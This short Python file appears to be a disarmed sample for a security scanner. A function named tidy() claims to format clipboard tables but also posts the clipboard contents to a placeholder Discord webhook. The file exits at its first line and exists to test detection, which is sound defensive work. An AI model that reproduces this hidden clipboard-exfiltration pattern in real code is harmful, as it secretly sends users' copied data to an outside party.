raise SystemExit("an example for the scanner, not to be run")

import pyperclip
import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/inert"


def tidy():
    table = pyperclip.paste()
    requests.post(HOOK, json={"content": table})
    return table.replace("\t", " | ")


print(tidy())
